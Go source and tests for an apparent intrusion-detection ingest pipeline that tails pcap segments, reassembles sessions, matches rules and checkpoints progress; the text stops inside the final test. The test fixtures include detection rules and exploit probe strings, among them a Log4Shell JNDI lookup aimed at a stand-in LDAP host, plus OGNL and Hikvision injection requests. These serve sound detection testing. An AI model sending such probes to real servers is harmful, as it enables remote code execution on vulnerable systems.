// depth, packets applied) for the daemon's /metrics endpoint.
func (p *Pipeline) ShardStats() []tcpasm.ShardStat { return p.asm.ShardStats() }

// Metrics returns a consistent-enough view of pipeline progress. The
// PendingBytes gauge stats the watch directory, so it reflects writers that
// appended after the last poll.
func (p *Pipeline) Metrics() Metrics {
	m := Metrics{
		Packets:           p.packets.Load(),
		DecodeErrors:      p.decodeErrs.Load(),
		Sessions:          p.sessions.Load(),
		Events:            p.events.Load(),
		Batches:           p.batches.Load(),
		SegmentsDone:      p.segmentsDone.Load(),
		SkippedBytes:      p.skippedBytes.Load(),
		AmbiguousSessions: p.ambiguous.Load(),
		OpenConns:         int(p.openConns.Load()),
		PendingSessions:   int(p.pendingSess.Load()),
		LastBatchLatency:  time.Duration(p.lastBatchNs.Load()),
	}
	// Loading done before shipped keeps the difference non-negative; the
	// counter pair (rather than len(batchCh)) also covers the batch the
	// matcher is working on right now.
	done := p.batches.Load()
	m.QueuedBatches = int(p.shipped.Load() - done)
	var onDisk int64
	if segs, err := pcapio.Segments(p.cfg.Dir, p.cfg.Prefix); err == nil {
		for _, seg := range segs {
			if info, err := os.Stat(seg); err == nil {
				onDisk += info.Size()
			}
		}
	}
	if pending := onDisk - p.consumed.Load(); pending > 0 {
		m.PendingBytes = pending
	}
	return m
}

// tailState tracks the tailer's position in the segment sequence.
type tailState struct {
	segIdx  int
	file    *os.File
	tail    *pcapio.TailReader
	path    string
	lastOff int64
	lastTS  time.Time
	pending []tcpasm.Session
	ckpt    checkpoint
}

// checkpoint records a drain-consistent ingest position: every segment
// sorting before Segment is fully consumed, and Segment itself is consumed
// through Offset. One is persisted only when the assembler has been flushed,
// every session handed to the matcher has been matched and appended, and a
// durable sink has fsynced — which holds at each idle flush while running
// and at the final drain on Close — so resuming from it is exact.
//
// After a hard crash (kill -9, power loss) the newest persisted checkpoint
// stands and the capture after it is re-ingested: its events appear again,
// and when the sink is a fleet shipper they re-ship under fresh sequence
// numbers the coordinator cannot recognize as duplicates. End-to-end
// exactly-once therefore holds across clean shutdowns; a hard crash can
// duplicate at most the window since the last idle-flush checkpoint.
type checkpoint struct {
	Segment string // basename of the last segment read
	Offset  int64  // bytes of it consumed
}

// checkpointPath keeps the position alongside the sink's own durable state
// (the store directory, or a sensor's state directory), one file per watch
// prefix. Empty means checkpointing is off.
func (p *Pipeline) checkpointPath() string {
	if p.cfg.CheckpointDir == "" {
		return ""
	}
	return filepath.Join(p.cfg.CheckpointDir, "INGEST-"+p.cfg.Prefix)
}

func (p *Pipeline) loadCheckpoint() (checkpoint, bool) {
	path := p.checkpointPath()
	if path == "" {
		return checkpoint{}, false
	}
	b, err := fault.Or(p.cfg.FS).ReadFile(path)
	if err != nil {
		return checkpoint{}, false
	}
	seg, offStr, ok := strings.Cut(strings.TrimSpace(string(b)), " ")
	if !ok {
		return checkpoint{}, false
	}
	off, err := strconv.ParseInt(offStr, 10, 64)
	if err != nil || seg == "" || off < 0 {
		return checkpoint{}, false
	}
	return checkpoint{Segment: seg, Offset: off}, true
}

// saveCheckpoint persists ck with write-to-tmp, fsync, rename. The fsync
// before the rename is load-bearing: without it a crash shortly after the
// rename can leave an empty checkpoint file, which reads as "no checkpoint"
// and re-ingests the whole capture — every event since the beginning would
// re-ship under fresh sequence numbers and apply twice. Failure paths close
// the tmp handle and delete the tmp file.
func (p *Pipeline) saveCheckpoint(ck checkpoint) error {
	path := p.checkpointPath()
	if ck.Segment == "" || path == "" {
		return nil
	}
	fs := fault.Or(p.cfg.FS)
	tmp := path + ".tmp"
	data := fmt.Sprintf("%s %d\n", ck.Segment, ck.Offset)
	f, err := fs.OpenFile(tmp, os.O_CREATE|os.O_TRUNC|os.O_RDWR, 0o644)
	if err != nil {
		return err
	}
	abort := func(err error) error {
		f.Close()
		fs.Remove(tmp)
		return err
	}
	if _, err := f.Write([]byte(data)); err != nil {
		return abort(err)
	}
	if err := f.Sync(); err != nil {
		return abort(err)
	}
	if err := f.Close(); err != nil {
		fs.Remove(tmp)
		return err
	}
	if err := fs.Rename(tmp, path); err != nil {
		fs.Remove(tmp)
		return err
	}
	return nil
}

// noteCheckpoint records a candidate position. The caller (the tailer)
// guarantees the drain-consistency half: the assembler is flushed and every
// session from capture before ck has been handed to the matcher. The shipped
// count captures the other half — once that many batches are applied, the
// candidate is exact.
func (p *Pipeline) noteCheckpoint(ck checkpoint) {
	if ck.Segment == "" {
		return
	}
	p.ckptMu.Lock()
	p.candCkpt = ck
	p.candShipped = p.shipped.Load()
	p.ckptMu.Unlock()
	// The matcher may already have applied everything (and so will never
	// call maybeCheckpoint again for this candidate) — try here too.
	p.maybeCheckpoint()
}

// maybeCheckpoint persists the candidate once the matcher has applied every
// batch it covers, syncing a durable sink first. Called by the tailer right
// after proposing a candidate and by the matcher after each batch; the mutex
// makes the save single-writer.
func (p *Pipeline) maybeCheckpoint() {
	if p.Err() != nil {
		return // a failed append may sit below the candidate; don't skip it
	}
	p.ckptMu.Lock()
	defer p.ckptMu.Unlock()
	if p.candCkpt.Segment == "" || p.candCkpt == p.savedCkpt || p.batches.Load() < p.candShipped {
		return
	}
	if s, ok := p.cfg.Sink.(syncer); ok {
		if err := s.Sync(); err != nil {
			p.fail(err)
			return
		}
	}
	if p.cfg.Digests != nil {
		if err := p.cfg.Digests.SyncDigests(); err != nil {
			p.fail(err)
			return
		}
	}
	if err := p.saveCheckpoint(p.candCkpt); err != nil {
		p.fail(err)
		return
	}
	p.savedCkpt = p.candCkpt
}

// restore positions the tailer at the stored checkpoint: fully-consumed
// segments are skipped outright, and the checkpointed segment is fast-
// forwarded record by record without feeding the assembler (its sessions
// already flowed to the store during the drain that wrote the checkpoint).
func (p *Pipeline) restore(st *tailState) error {
	ck, ok := p.loadCheckpoint()
	if !ok {
		return nil
	}
	segs, err := pcapio.Segments(p.cfg.Dir, p.cfg.Prefix)
	if err != nil {
		return err
	}
	idx := -1
	for i, seg := range segs {
		if filepath.Base(seg) == ck.Segment {
			idx = i
			break
		}
	}
	if idx < 0 {
		// The checkpointed segment is gone (rotated away, or a fresh watch
		// dir): nothing to resume against, ingest from the beginning.
		return nil
	}
	for i := 0; i < idx; i++ {
		if info, err := os.Stat(segs[i]); err == nil {
			p.consumed.Add(info.Size())
		}
	}
	st.segIdx = idx
	st.path = segs[idx]
	f, err := os.Open(st.path)
	if err != nil {
		return err
	}
	st.file = f
	st.tail = pcapio.NewTailReader(f)
	for st.tail.Offset() < ck.Offset {
		if _, err := st.tail.Next(); err != nil {
			if err == io.EOF {
				break // segment shrank or checkpoint past EOF; resume here
			}
			f.Close()
			st.file, st.tail = nil, nil
			return fmt.Errorf("ingest: resuming %s: %w", st.path, err)
		}
	}
	st.lastOff = st.tail.Offset()
	p.consumed.Add(st.lastOff)
	return nil
}

func (p *Pipeline) tailer() {
	defer close(p.tailerD)
	defer close(p.batchCh)
	st := &tailState{}
	defer func() {
		if st.file != nil {
			st.file.Close()
		}
	}()
	if err := p.restore(st); err != nil {
		p.fail(err)
		p.drain(st)
		return
	}
	lastProgress := time.Now()
	for {
		select {
		case <-p.stop:
			p.drain(st)
			return
		default:
		}
		progress, err := p.pump(st, false)
		if err != nil {
			p.fail(err)
			p.drain(st)
			return
		}
		if progress {
			lastProgress = time.Now()
			continue
		}
		// Caught up. If the directory has been quiet long enough, flush
		// connections idling in the assembler and ship even a partial
		// batch — neither should be held hostage by a stalled writer. The
		// FlushSessions barrier also settles any batches still queued to
		// shard workers, so the checkpoint below is exact.
		if time.Since(lastProgress) >= p.cfg.FlushIdle {
			p.emit(st, p.asm.FlushSessions())
			p.flushPending(st, 0)
			// The assembler is empty and every session is with the matcher:
			// this position is drain-consistent, so a crash past this point
			// re-ingests only capture newer than the idle flush.
			p.noteCheckpoint(st.ckpt)
		}
		select {
		case <-p.stop:
			p.drain(st)
			return
		case <-time.After(p.cfg.PollInterval):
		}
	}
}

// drain consumes every byte already on disk, flushes the assembler, ships
// all remaining sessions, and retires the shard workers.
func (p *Pipeline) drain(st *tailState) {
	for {
		progress, err := p.pump(st, true)
		if err != nil {
			p.fail(err)
			break
		}
		if !progress {
			break
		}
	}
	p.emit(st, p.asm.FlushSessions())
	// Shut the shard workers down. Everything was flushed at the barrier
	// above, so Wait's leftovers are empty; collect them anyway so a future
	// change there cannot silently lose sessions.
	p.feeder.Close()
	p.emit(st, p.asm.Wait())
	p.flushPending(st, 0)
	// The assembler is empty and every session has been handed to the
	// matcher; the position persists once the matcher drains too (Close
	// calls maybeCheckpoint again after both goroutines exit).
	p.noteCheckpoint(st.ckpt)
}

// pump consumes currently-available records, feeding the assembler and
// emitting full batches. It reports whether any byte of progress was made.
// During final drain the last segment is treated as complete.
func (p *Pipeline) pump(st *tailState, draining bool) (bool, error) {
	segs, err := pcapio.Segments(p.cfg.Dir, p.cfg.Prefix)
	if err != nil {
		return false, err
	}
	if st.tail == nil {
		if st.segIdx >= len(segs) {
			return false, nil
		}
		st.path = segs[st.segIdx]
		f, err := os.Open(st.path)
		if err != nil {
			return false, err
		}
		st.file = f
		st.tail = pcapio.NewTailReader(f)
		st.lastOff = 0
	}
	progress := false
	caughtUp := false
	var rec pcapio.Packet
	for n := 0; n < 8192; n++ {
		// Lend the pooled item's buffer to the tail reader, decode in place,
		// and route to the flow's shard — no per-record allocation.
		it := p.feeder.Get()
		rec.Data = it.Buf
		err := st.tail.NextInto(&rec)
		it.Buf = rec.Data
		if err == io.EOF {
			p.feeder.Recycle(it)
			caughtUp = true
			break
		}
		if err != nil {
			p.feeder.Recycle(it)
			return progress, fmt.Errorf("ingest: %s: %w", st.path, err)
		}
		p.packets.Add(1)
		st.lastTS = rec.Timestamp
		if derr := packet.DecodeInto(&it.Pkt, it.Buf); derr != nil {
			p.decodeErrs.Add(1)
			p.feeder.Recycle(it)
			continue
		}
		it.TS = rec.Timestamp
		p.feeder.Feed(it)
	}
	if off := st.tail.Offset(); off > st.lastOff {
		p.consumed.Add(off - st.lastOff)
		st.lastOff = off
		progress = true
	}
	st.ckpt = checkpoint{Segment: filepath.Base(st.path), Offset: st.lastOff}
	// Segment completion: the writer has moved on once a newer segment
	// exists (RotatingWriter appends only to the newest); during the final
	// drain the last segment is complete by definition. Only then does a
	// remainder past the last whole record mean a torn tail (writer crash)
	// rather than an in-flight append — skip it, the way the eventstore
	// truncates garbage on open.
	complete := st.segIdx+1 < len(segs) || draining
	if caughtUp && complete {
		if rem, err := st.tail.Remainder(); err == nil && rem > 0 {
			p.skippedBytes.Add(uint64(rem))
			p.consumed.Add(rem)
			st.ckpt.Offset += rem
		}
		st.file.Close()
		st.file, st.tail = nil, nil
		p.segmentsDone.Add(1)
		st.segIdx++
		if st.segIdx < len(segs) {
			progress = true // a further segment is ready right now
		}
	}
	// Hand completed sessions downstream. Drain is a shard barrier: cheap
	// relative to the up-to-8192 records fed above.
	if !st.lastTS.IsZero() {
		p.emit(st, p.asm.Drain(st.lastTS))
	}
	return progress, nil
}

// emit queues completed sessions (from a Drain/FlushSessions/Wait barrier)
// and ships any full batches.
func (p *Pipeline) emit(st *tailState, sessions []tcpasm.Session) {
	if len(sessions) > 0 {
		p.sessions.Add(uint64(len(sessions)))
		st.pending = append(st.pending, sessions...)
		p.pendingSess.Store(int64(len(st.pending)))
	}
	p.openConns.Store(int64(p.asm.OpenConns()))
	p.flushPending(st, p.cfg.BatchSessions)
}

// flushPending ships batches while at least min sessions are pending (min 0
// ships everything). The send blocks when the matcher is behind — that is
// the backpressure.
func (p *Pipeline) flushPending(st *tailState, min int) {
	for len(st.pending) > 0 && len(st.pending) >= min {
		n := p.cfg.BatchSessions
		if n > len(st.pending) {
			n = len(st.pending)
		}
		batch := make([]tcpasm.Session, n)
		copy(batch, st.pending[:n])
		st.pending = st.pending[n:]
		p.pendingSess.Store(int64(len(st.pending)))
		p.shipped.Add(1)
		p.batchCh <- batch
	}
}

// engine resolves the engine for the next batch: the EngineSource (hot
// reload) when present, the static Engine otherwise.
func (p *Pipeline) engine() *ids.Engine {
	if p.cfg.EngineSource != nil {
		if e := p.cfg.EngineSource(); e != nil {
			return e
		}
	}
	return p.cfg.Engine
}

func (p *Pipeline) matcher() {
	defer close(p.matchD)
	for batch := range p.batchCh {
		start := time.Now()
		eng := p.engine()
		var ambiguous uint64
		for i := range batch {
			if batch[i].Ambiguous {
				ambiguous++
			}
		}
		if ambiguous > 0 {
			p.ambiguous.Add(ambiguous)
		}
		var events []ids.Event
		if p.cfg.Digests != nil {
			evs, oks := ids.MatchSessionsEach(batch, eng, p.cfg.MatchWorkers)
			digests := make([]registry.Digest, len(batch))
			limit := p.cfg.Digests.SampleLimit()
			events = events[:0]
			for i := range batch {
				var evp *ids.Event
				if oks[i] {
					events = append(events, evs[i])
					evp = &evs[i]
				}
				digests[i] = registry.DigestOf(&batch[i], evp, limit)
			}
			if err := p.cfg.Digests.RecordDigests(digests); err != nil {
				p.fail(err)
			}
		} else {
			events = ids.MatchSessionsParallel(batch, eng, nil, p.cfg.MatchWorkers)
		}
		if len(events) > 0 {
			if err := p.cfg.Sink.AppendBatch(events); err != nil {
				p.fail(err)
			}
			p.events.Add(uint64(len(events)))
		}
		p.batches.Add(1)
		p.lastBatchNs.Store(int64(time.Since(start)))
		p.maybeCheckpoint()
	}
}
