package ingest

import (
	"errors"
	"strings"
	"testing"

	"repro/internal/fault"
)

// TestSaveCheckpointAbortLeaksNothing drives the checkpoint's
// write-tmp/fsync/rename dance into each failure branch and asserts every
// abort leaves no stranded INGEST-*.tmp and no leaked handle, the previous
// checkpoint still loads, and the save succeeds once the fault clears.
func TestSaveCheckpointAbortLeaksNothing(t *testing.T) {
	fs := fault.NewSimFS(1, fault.Profile{})
	p := &Pipeline{cfg: Config{CheckpointDir: "ckpt", Prefix: "cap", FS: fs}}
	prev := checkpoint{Segment: "cap-000.pcap", Offset: 24}
	if err := p.saveCheckpoint(prev); err != nil {
		t.Fatal(err)
	}
	next := checkpoint{Segment: "cap-001.pcap", Offset: 512}
	for _, op := range []string{"open", "write", "sync", "rename"} {
		fs.FailWith(func(o, name string) error {
			if o == op && strings.HasSuffix(name, ".tmp") {
				return fault.ErrInjected
			}
			return nil
		})
		if err := p.saveCheckpoint(next); !errors.Is(err, fault.ErrInjected) {
			t.Fatalf("save with %s fault: err=%v, want injected", op, err)
		}
		for _, name := range fs.Files() {
			if strings.HasSuffix(name, ".tmp") {
				t.Fatalf("save aborted at %s stranded %s", op, name)
			}
		}
		if got := fs.OpenHandles(); got != 0 {
			t.Fatalf("save aborted at %s leaked %d handles", op, got)
		}
		// The failed save must not have clobbered the durable checkpoint.
		if ck, ok := p.loadCheckpoint(); !ok || ck != prev {
			t.Fatalf("after failed save at %s: loaded %+v ok=%v, want %+v", op, ck, ok, prev)
		}
	}
	fs.FailWith(nil)
	if err := p.saveCheckpoint(next); err != nil {
		t.Fatalf("save after faults cleared: %v", err)
	}
	if ck, ok := p.loadCheckpoint(); !ok || ck != next {
		t.Fatalf("loaded %+v ok=%v, want %+v", ck, ok, next)
	}
}
