package ingest

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"testing"
	"time"

	"repro/internal/eventstore"
	"repro/internal/ids"
	"repro/internal/netsim"
	"repro/internal/pcapio"
	"repro/internal/tcpasm"
)

// writeImpairedSegment renders sessions to frames, pushes them through the
// impairment profile, and writes the damaged capture as one standalone
// segment — the shape a sensor behind a lossy tap would actually produce.
func writeImpairedSegment(t testing.TB, path string, sessions []tcpasm.Session, profile netsim.Profile) {
	t.Helper()
	tmp := filepath.Join(t.TempDir(), "clean.pcap")
	writeSegmentFile(t, tmp, sessions)
	clean, err := pcapio.OpenFiles(tmp)
	if err != nil {
		t.Fatal(err)
	}
	defer clean.Close()
	src := netsim.Impair(clean, profile)

	w, err := pcapio.NewRotatingWriter(filepath.Dir(path), "tmp-impair", pcapio.LinkTypeEthernet, 1<<40, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	for {
		p, err := src.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if err := w.WritePacket(p.Timestamp, p.Data); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	files := w.Files()
	if len(files) != 1 {
		t.Fatalf("impaired capture rotated into %d segments, want 1", len(files))
	}
	if err := os.Rename(files[0], path); err != nil {
		t.Fatal(err)
	}
}

// TestPipelineImpairedCaptureResume: the checkpoint-restart contract must
// survive a damaged capture. Duplicated and reordered frames mean the tailer
// re-sees byte ranges that reassembly already integrated; a restart from the
// checkpoint must still ingest each segment exactly once — the store ends up
// identical to a batch scan of the same damaged files, with no double-stored
// events and no phantom ambiguity from agreeing retransmits.
func TestPipelineImpairedCaptureResume(t *testing.T) {
	watch, storeDir := t.TempDir(), t.TempDir()
	sessions := testSessions(160)
	profile := netsim.Profile{Seed: 21, DupProb: 0.25, ReorderProb: 0.15, ReorderSpan: 2, LossProb: 0.03}
	seg := func(i int) string {
		return filepath.Join(watch, fmt.Sprintf("dscope-%06d.pcap", i))
	}
	writeImpairedSegment(t, seg(1), sessions[:40], profile)
	writeImpairedSegment(t, seg(2), sessions[40:80], profile)

	runOnce := func() (int, Metrics) {
		t.Helper()
		store, err := eventstore.Open(storeDir, eventstore.Options{})
		if err != nil {
			t.Fatal(err)
		}
		defer store.Close()
		p, err := Start(Config{
			Dir: watch, Engine: testEngine(t), Store: store,
			PollInterval: 2 * time.Millisecond, FlushIdle: 20 * time.Millisecond,
		})
		if err != nil {
			t.Fatal(err)
		}
		if err := p.Close(); err != nil {
			t.Fatal(err)
		}
		return store.Snapshot().Len(), p.Metrics()
	}

	first, m := runOnce()
	if first == 0 {
		t.Fatal("first run stored nothing from the impaired capture")
	}
	if m.AmbiguousSessions != 0 {
		t.Fatalf("agreeing duplicates flagged %d sessions ambiguous", m.AmbiguousSessions)
	}
	// Idle restart: the checkpoint must prevent any re-ingest of the damaged
	// segments — re-feeding duplicated frames would double-store events.
	if again, _ := runOnce(); again != first {
		t.Fatalf("idle restart changed the store: %d -> %d events", first, again)
	}
	// More impaired segments land while the daemon is down; the resumed
	// pipeline ingests exactly those.
	writeImpairedSegment(t, seg(3), sessions[80:120], profile)
	writeImpairedSegment(t, seg(4), sessions[120:], profile)
	resumed, _ := runOnce()

	src, err := pcapio.OpenFiles(seg(1), seg(2), seg(3), seg(4))
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	batchEvents, _, err := ids.ScanCapture(src, testEngine(t))
	if err != nil {
		t.Fatal(err)
	}
	if len(batchEvents) == 0 {
		t.Fatal("batch scan of impaired segments matched nothing")
	}
	if resumed != len(batchEvents) {
		t.Fatalf("after resume store has %d events, batch scan of the impaired segments gives %d",
			resumed, len(batchEvents))
	}
}
