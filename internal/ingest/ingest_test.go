package ingest

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"

	"repro/internal/eventstore"
	"repro/internal/ids"
	"repro/internal/packet"
	"repro/internal/pcapio"
	"repro/internal/rules"
	"repro/internal/tcpasm"
	"repro/internal/telescope"
)

func testEngine(t testing.TB) *ids.Engine {
	t.Helper()
	texts := []string{
		`alert tcp any any -> any any (msg:"jndi"; content:"${jndi:"; nocase; reference:cve,2021-44228; sid:1;)`,
		`alert tcp any any -> any any (msg:"ognl"; content:"/%24%7B"; http_uri; reference:cve,2022-26134; sid:2;)`,
		`alert tcp any any -> any any (msg:"hik"; content:"/SDK/webLanguage"; http_uri; reference:cve,2021-36260; sid:3;)`,
	}
	var rs []rules.DatedRule
	for i, text := range texts {
		r, err := rules.Parse(text)
		if err != nil {
			t.Fatal(err)
		}
		rs = append(rs, rules.DatedRule{Rule: r, Published: time.Date(2021, 12, 1+i, 0, 0, 0, 0, time.UTC)})
	}
	return ids.NewEngine(rs, ids.Config{PortInsensitive: true})
}

func testSessions(n int) []tcpasm.Session {
	payloads := []string{
		"GET /?x=${jndi:ldap://e} HTTP/1.1\r\nHost: h\r\n\r\n",
		"GET /%24%7B(x)%7D/ HTTP/1.1\r\nHost: h\r\n\r\n",
		"PUT /SDK/webLanguage HTTP/1.1\r\nHost: h\r\n\r\n",
		"GET /robots.txt HTTP/1.1\r\nHost: h\r\n\r\n", // noise
	}
	base := time.Date(2022, 2, 1, 0, 0, 0, 0, time.UTC)
	out := make([]tcpasm.Session, n)
	for i := range out {
		out[i] = tcpasm.Session{
			Client:     packet.Endpoint{Addr: packet.MustAddr(fmt.Sprintf("203.0.%d.%d", i/200%200, i%200+1)), Port: uint16(30000 + i%1000)},
			Server:     packet.Endpoint{Addr: packet.MustAddr("18.204.0.9"), Port: 8080},
			Start:      base.Add(time.Duration(i) * time.Second),
			ClientData: []byte(payloads[i%len(payloads)]),
			Complete:   true,
			Closed:     true,
		}
	}
	return out
}

func writeSegments(t testing.TB, dir, prefix string, sessions []tcpasm.Session, maxBytes int64) []string {
	t.Helper()
	rw, err := pcapio.NewRotatingWriter(dir, prefix, pcapio.LinkTypeEthernet, maxBytes, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	if err := telescope.SessionsToPcap(sessions, rw, 1); err != nil {
		t.Fatal(err)
	}
	if err := rw.Close(); err != nil {
		t.Fatal(err)
	}
	return rw.Files()
}

// eventKey gives events an order- and representation-independent identity.
func eventKey(ev ids.Event) string {
	return fmt.Sprintf("%d|%s|%s|%d|%s|%d",
		ev.Time.UnixNano(), ev.Src, ev.Dst, ev.SID, ev.CVE, ev.Bytes)
}

func collectKeys(events []ids.Event) map[string]int {
	m := make(map[string]int, len(events))
	for _, ev := range events {
		m[eventKey(ev)]++
	}
	return m
}

// TestPipelineMatchesBatchScan replays a pre-written rotated capture
// through the streaming pipeline and asserts the stored events are exactly
// the batch ScanCapture result for the same files.
func TestPipelineMatchesBatchScan(t *testing.T) {
	dir := t.TempDir()
	engine := testEngine(t)
	sessions := testSessions(300)
	files := writeSegments(t, dir, "dscope", sessions, 64<<10)
	if len(files) < 3 {
		t.Fatalf("only %d segments; lower maxBytes", len(files))
	}

	// Batch truth.
	src, err := pcapio.OpenFiles(files...)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	batchEvents, batchStats, err := ids.ScanCapture(src, testEngine(t))
	if err != nil {
		t.Fatal(err)
	}
	if len(batchEvents) == 0 {
		t.Fatal("batch scan found nothing; fixture broken")
	}

	store, err := eventstore.Open(t.TempDir(), eventstore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	p, err := Start(Config{
		Dir: dir, Prefix: "dscope", Engine: engine, Store: store,
		PollInterval: 5 * time.Millisecond, FlushIdle: 50 * time.Millisecond,
		BatchSessions: 64,
	})
	if err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(30 * time.Second)
	for !p.Metrics().Idle() {
		if time.Now().After(deadline) {
			t.Fatalf("pipeline never went idle: %+v", p.Metrics())
		}
		time.Sleep(10 * time.Millisecond)
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}

	sn := store.Snapshot()
	got, want := collectKeys(sn.Events()), collectKeys(batchEvents)
	if len(got) != len(want) {
		t.Fatalf("stored %d distinct events, batch %d", len(got), len(want))
	}
	for k, n := range want {
		if got[k] != n {
			t.Fatalf("event %s: stored %d, batch %d", k, got[k], n)
		}
	}
	m := p.Metrics()
	if m.Packets != uint64(batchStats.Packets) {
		t.Fatalf("packets %d, batch saw %d", m.Packets, batchStats.Packets)
	}
	if m.Sessions != uint64(batchStats.Sessions) {
		t.Fatalf("sessions %d, batch saw %d", m.Sessions, batchStats.Sessions)
	}
	if m.SegmentsDone != uint64(len(files)) {
		t.Fatalf("segments done %d, want %d", m.SegmentsDone, len(files))
	}
	if int(m.Events) != len(batchEvents) {
		t.Fatalf("events %d, want %d", m.Events, len(batchEvents))
	}
}

// TestPipelineTailsLiveWriter starts the pipeline on an empty directory and
// writes the capture concurrently, the daemon's real deployment shape.
func TestPipelineTailsLiveWriter(t *testing.T) {
	dir := t.TempDir()
	store, err := eventstore.Open(t.TempDir(), eventstore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	p, err := Start(Config{
		Dir: dir, Engine: testEngine(t), Store: store,
		PollInterval: 2 * time.Millisecond, FlushIdle: 50 * time.Millisecond,
		BatchSessions: 32,
	})
	if err != nil {
		t.Fatal(err)
	}

	sessions := testSessions(240)
	writerDone := make(chan struct{})
	go func() {
		defer close(writerDone)
		rw, err := pcapio.NewRotatingWriter(dir, "dscope", pcapio.LinkTypeEthernet, 32<<10, pcapio.WithNanoPrecision())
		if err != nil {
			t.Error(err)
			return
		}
		// Trickle sessions in small bursts so the tailer genuinely tails.
		for i := 0; i < len(sessions); i += 40 {
			end := i + 40
			if end > len(sessions) {
				end = len(sessions)
			}
			if err := telescope.SessionsToPcap(sessions[i:end], rw, 1); err != nil {
				t.Error(err)
				return
			}
			time.Sleep(5 * time.Millisecond)
		}
		if err := rw.Close(); err != nil {
			t.Error(err)
		}
	}()
	<-writerDone
	deadline := time.Now().Add(30 * time.Second)
	for !p.Metrics().Idle() {
		if time.Now().After(deadline) {
			t.Fatalf("pipeline never idle: %+v", p.Metrics())
		}
		time.Sleep(5 * time.Millisecond)
	}
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	// 3 of every 4 fixture payloads match a rule.
	if got := store.Snapshot().Len(); got != 180 {
		t.Fatalf("stored %d events, want 180", got)
	}
	if p.Metrics().DecodeErrors != 0 {
		t.Fatalf("decode errors: %+v", p.Metrics())
	}
}

// TestPipelineSkipsTornFinalSegment: a crash-torn last segment must not
// wedge the pipeline — complete records are ingested, the torn tail is
// counted and skipped at drain.
func TestPipelineSkipsTornFinalSegment(t *testing.T) {
	dir := t.TempDir()
	sessions := testSessions(60)
	files := writeSegments(t, dir, "dscope", sessions, 32<<10)
	last := files[len(files)-1]
	info, err := os.Stat(last)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(last, info.Size()-11); err != nil {
		t.Fatal(err)
	}

	store, err := eventstore.Open(t.TempDir(), eventstore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	p, err := Start(Config{
		Dir: dir, Engine: testEngine(t), Store: store,
		PollInterval: 2 * time.Millisecond, FlushIdle: 20 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	// Close drains: the torn tail is unrecoverable and skipped.
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	m := p.Metrics()
	if m.SkippedBytes == 0 {
		t.Fatalf("torn tail not counted: %+v", m)
	}
	if !m.Idle() {
		t.Fatalf("pipeline not idle after drain: %+v", m)
	}
	if store.Snapshot().Len() == 0 {
		t.Fatal("no events recovered from intact records")
	}
}

// writeSegmentFile writes sessions as one standalone segment file, so tests
// can control exactly which sessions land in which segment.
func writeSegmentFile(t testing.TB, path string, sessions []tcpasm.Session) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	w, err := pcapio.NewWriter(f, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	if err := telescope.SessionsToPcap(sessions, w, 1); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestPipelineResumesFromCheckpoint: a restarted pipeline must pick up
// where the drained one stopped — no re-ingesting (and double-storing) the
// capture it already consumed, while still ingesting segments that appeared
// in between.
func TestPipelineResumesFromCheckpoint(t *testing.T) {
	watch, storeDir := t.TempDir(), t.TempDir()
	sessions := testSessions(200)
	seg := func(i int) string {
		return filepath.Join(watch, fmt.Sprintf("dscope-%06d.pcap", i))
	}
	writeSegmentFile(t, seg(1), sessions[:50])
	writeSegmentFile(t, seg(2), sessions[50:100])

	runOnce := func() int {
		t.Helper()
		store, err := eventstore.Open(storeDir, eventstore.Options{})
		if err != nil {
			t.Fatal(err)
		}
		defer store.Close()
		p, err := Start(Config{
			Dir: watch, Engine: testEngine(t), Store: store,
			PollInterval: 2 * time.Millisecond, FlushIdle: 20 * time.Millisecond,
		})
		if err != nil {
			t.Fatal(err)
		}
		if err := p.Close(); err != nil {
			t.Fatal(err)
		}
		return store.Snapshot().Len()
	}

	first := runOnce()
	if first == 0 {
		t.Fatal("first run stored nothing")
	}
	// Restart with nothing new: the checkpoint must prevent any re-ingest.
	if again := runOnce(); again != first {
		t.Fatalf("idle restart changed the store: %d -> %d events", first, again)
	}
	// Two more segments appear while the daemon is down; a restart ingests
	// exactly those.
	writeSegmentFile(t, seg(3), sessions[100:150])
	writeSegmentFile(t, seg(4), sessions[150:])
	resumed := runOnce()

	src, err := pcapio.OpenFiles(seg(1), seg(2), seg(3), seg(4))
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	batchEvents, _, err := ids.ScanCapture(src, testEngine(t))
	if err != nil {
		t.Fatal(err)
	}
	if resumed != len(batchEvents) {
		t.Fatalf("after resume store has %d events, batch scan of all segments gives %d",
			resumed, len(batchEvents))
	}
}

// TestPipelineCheckpointsAtIdleFlush: the checkpoint must be persisted at
// idle-flush points while the pipeline is running — not only on Close — so a
// hard crash (kill -9) re-ingests just the window since the last flush
// instead of the whole capture (which, through a fleet shipper, would land
// as duplicates the coordinator cannot recognize).
func TestPipelineCheckpointsAtIdleFlush(t *testing.T) {
	watch, storeDir := t.TempDir(), t.TempDir()
	sessions := testSessions(100)
	writeSegmentFile(t, filepath.Join(watch, "dscope-000001.pcap"), sessions)

	store, err := eventstore.Open(storeDir, eventstore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	p, err := Start(Config{
		Dir: watch, Engine: testEngine(t), Store: store,
		PollInterval: 2 * time.Millisecond, FlushIdle: 10 * time.Millisecond,
	})
